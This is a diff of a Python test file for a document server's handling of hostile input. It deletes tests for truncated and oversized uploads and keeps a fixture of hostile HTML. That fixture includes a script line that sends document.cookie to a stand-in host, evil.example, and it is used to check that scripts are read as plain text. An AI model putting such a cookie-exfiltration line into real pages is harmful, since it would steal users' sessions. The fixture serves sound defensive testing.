@@ -1,56 +1,10 @@
-"""Input that is too large, incomplete or hostile gets the same typed error over every transport, and leaves nothing behind."""
+"""Hostile input: it is read as text, or gets a typed error that leaves the server standing."""
 
 from __future__ import annotations
 
-import io
-import json
-import socket
-from collections.abc import Sequence
-from typing import Any
-
-import pytest
-
-from tests.callers import Credential, Registry, Tenant
-from tests.instance import Instance, eventually
+from tests.callers import Credential, Tenant
 from tests.system.test_journey import answer
-from tests.transports import Json, Ways
-
-
-def left(instance: Instance, registry: Registry, tenant: Tenant) -> tuple[Any, Sequence[str]]:
-    """The number of the tenant's rows in each table, and the files outside the database."""
-    files = sorted(str(path) for path in (instance.home / "data").rglob("*") if path.is_file())
-    return registry.rows(*tenant.names), files
-
-
-@pytest.mark.parametrize("chunked", [False, True])
-def test_an_upload_that_ends_early_over_http(
-    instance: Instance, registry: Registry, tenant: Tenant, ways: Ways, chunked: bool
-) -> None:
-    headers = tenant.headers(Credential.USER)
-    before = left(instance, registry, tenant)
-    size = "Transfer-Encoding: chunked" if chunked else "Content-Length: 5000000"
-    head = (
-        f"PUT /v1/uploads?source_key=cut.md HTTP/1.1\r\nHost: {instance.target}\r\n"
-        f"Authorization: {headers['authorization']}\r\n{size}\r\n\r\n"
-    )
-    part = b"A sentence of it. " * 100_000
-    with socket.create_connection(("127.0.0.1", instance.port)) as connection:
-        connection.sendall(head.encode())
-        connection.sendall(f"{len(part):x}\r\n".encode() + part + b"\r\n" if chunked else part)
-    until_no_upload_runs(instance)
-    assert left(instance, registry, tenant) == before
-
-
-def until_no_upload_runs(instance: Instance) -> None:
-    """Wait until the server's log shows that the upload that started last has ended."""
-
-    def ended() -> bool:
-        lines = [json.loads(line) for line in instance.log("server").splitlines() if line.startswith("{")]
-        calls = [one for one in lines if str(one.get("method", "")).endswith("/UploadDocument")]
-        return bool(calls) and calls[-1].get("code") != "OK"
-
-    eventually(ended, "the end of the upload")
-
+from tests.transports import Ways
 
 HOSTILE = """<!doctype html><html><head><title>Recipe<script>alert("title")</script></title>
 <script>document.location = "https://evil.example/?" + document.cookie; // zebrastripe</script>
@@ -96,39 +50,6 @@ def test_html_with_scripts_is_read_as_text(ways: Ways, tenant: Tenant) -> None:
         ).message
         == {}
     )
-
-
-def test_a_word_two_hundred_thousand_times(ways: Ways, tenant: Tenant, instance: Instance) -> None:
-    headers = tenant.headers(Credential.USER)
-    body = io.BytesIO(b"badger " * 200_000).getvalue()
-    operation = ways.http.put(
-        "/v1/uploads", params={"source_key": "badgers.txt"}, content=body, headers=headers
-    ).json()
-    done: Json = {}
-
-    def ended() -> bool:
-        nonlocal done
-        done = ways.call(
-            "Operations/WaitOperation", {"name": operation["name"], "timeout": "20s"}, headers
-        ).message
-        return bool(done.get("done"))
-
-    # Meanwhile, the server answers other callers.
-    ways.call(
-        "KnowledgeService/CreateDocument",
-        {"metadata": {"sourceKey": "fox.md"}, "text": "A fox lives here."},
-        headers,
-    )
-    assert ways.call("AuthService/GetMe", {}, headers).problem is None
-    eventually(ended, lambda: f"the end of {done}")
-    assert "error" not in done, done
-    assert done["response"]["document"]["passageCount"] > 100
-    hits = ways.call("KnowledgeService/Search", {"terms": ["badger"], "topK": 3}, headers).message["hits"]
-    assert len(hits) == 3
-    deleted = ways.call(
-        "KnowledgeService/DeleteDocument", {"name": done["response"]["document"]["name"]}, headers
-    )
-    assert deleted.problem is None
 
 
 DEEP = {
